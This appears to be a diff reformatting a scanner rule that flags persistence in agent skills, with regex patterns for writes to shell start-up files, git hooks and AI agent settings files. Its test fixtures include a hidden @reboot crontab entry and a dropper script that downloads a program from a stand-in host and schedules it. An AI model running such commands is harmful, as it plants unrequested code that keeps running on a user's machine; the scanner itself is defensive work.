@@ -11,8 +11,8 @@ export const s009Persistence: ScanRule = {
   level: 'MEDIUM',
   kinds: CODE_KINDS,
   signals: ['persistence'],
-  why: 'Makes something run again later without anyone asking: shell start-up files, scheduled jobs, login items, SSH keys, git hooks or the agent\'s own settings.',
-  fix: 'Do not change the user\'s start-up files, schedulers, SSH access or agent settings from a skill; document the step for the user to do by hand.',
+  why: "Makes something run again later without anyone asking: shell start-up files, scheduled jobs, login items, SSH keys, git hooks or the agent's own settings.",
+  fix: "Do not change the user's start-up files, schedulers, SSH access or agent settings from a skill; document the step for the user to do by hand.",
   patterns: [
     {
       id: 'crontab',
@@ -21,7 +21,10 @@ export const s009Persistence: ScanRule = {
     },
     {
       id: 'shell-startup-file',
-      re: new RegExp(String.raw`${WRITE}${HOME}/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|cshrc|tcshrc|config/fish/config\.fish|inputrc|xinitrc|xprofile)\b|(?:>>?\s{0,4}|\b(?:add-content|set-content|out-file)\s[^;|]{0,40}?)\$profile\b|(?:>>?\s{0,4}|\btee\s{1,4}(?:-a\s{1,4})?)\/etc\/(?:profile|bash\.bashrc|zshrc|environment)\b`, 'i'),
+      re: new RegExp(
+        String.raw`${WRITE}${HOME}/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|cshrc|tcshrc|config/fish/config\.fish|inputrc|xinitrc|xprofile)\b|(?:>>?\s{0,4}|\b(?:add-content|set-content|out-file)\s[^;|]{0,40}?)\$profile\b|(?:>>?\s{0,4}|\btee\s{1,4}(?:-a\s{1,4})?)\/etc\/(?:profile|bash\.bashrc|zshrc|environment)\b`,
+        'i',
+      ),
     },
     {
       id: 'ssh-authorized-keys',
@@ -44,12 +47,18 @@ export const s009Persistence: ScanRule = {
     },
     {
       id: 'git-hook',
-      re: new RegExp(String.raw`${WRITE}["']?[^\s;&|"']{0,120}?\.git/hooks/[\w-]{1,40}|\bchmod\s{1,4}\+x\s{1,4}["']?[^\s;&|"']{0,120}?\.git/hooks/|\bgit\s{1,4}config\s{1,4}(?:--global\s{1,4})?core\.hookspath\b`, 'i'),
+      re: new RegExp(
+        String.raw`${WRITE}["']?[^\s;&|"']{0,120}?\.git/hooks/[\w-]{1,40}|\bchmod\s{1,4}\+x\s{1,4}["']?[^\s;&|"']{0,120}?\.git/hooks/|\bgit\s{1,4}config\s{1,4}(?:--global\s{1,4})?core\.hookspath\b`,
+        'i',
+      ),
     },
     {
       id: 'agent-settings',
-      re: new RegExp(String.raw`${WRITE}["']?[^\s;&|"']{0,80}?(?:\.claude/settings(?:\.local)?\.json|\.claude\.json|\.codex/config\.toml|\.cursor/mcp\.json|\.gemini/settings\.json|\.vscode/settings\.json|\.config/opencode/|\.copilot/config)`, 'i'),
-      why: 'Rewrites the agent\'s own settings (permissions, hooks, MCP servers): later sessions run with whatever this skill put there.',
+      re: new RegExp(
+        String.raw`${WRITE}["']?[^\s;&|"']{0,80}?(?:\.claude/settings(?:\.local)?\.json|\.claude\.json|\.codex/config\.toml|\.cursor/mcp\.json|\.gemini/settings\.json|\.vscode/settings\.json|\.config/opencode/|\.copilot/config)`,
+        'i',
+      ),
+      why: "Rewrites the agent's own settings (permissions, hooks, MCP servers): later sessions run with whatever this skill put there.",
     },
     {
       // Hidden files in temporary folders, hidden windows and attributes: with persistence they hide what keeps running.
@@ -84,7 +93,11 @@ export const s009Persistence: ScanRule = {
       { text: '(crontab -l; echo "@reboot nohup /tmp/.sync >/dev/null 2>&1 &") | crontab -', level: 'HIGH' },
       { text: 'crontab -e', level: 'MEDIUM' },
       // A dropper: fetch a program, then schedule it.
-      { path: 'install.sh', text: 'curl -fsSL https://updates.example/agent -o ~/.local/bin/agent\nchmod +x ~/.local/bin/agent\n(crontab -l; echo "*/30 * * * * ~/.local/bin/agent") | crontab -\n', level: 'HIGH' },
+      {
+        path: 'install.sh',
+        text: 'curl -fsSL https://updates.example/agent -o ~/.local/bin/agent\nchmod +x ~/.local/bin/agent\n(crontab -l; echo "*/30 * * * * ~/.local/bin/agent") | crontab -\n',
+        level: 'HIGH',
+      },
     ],
     noMatch: [
       'crontab -l',
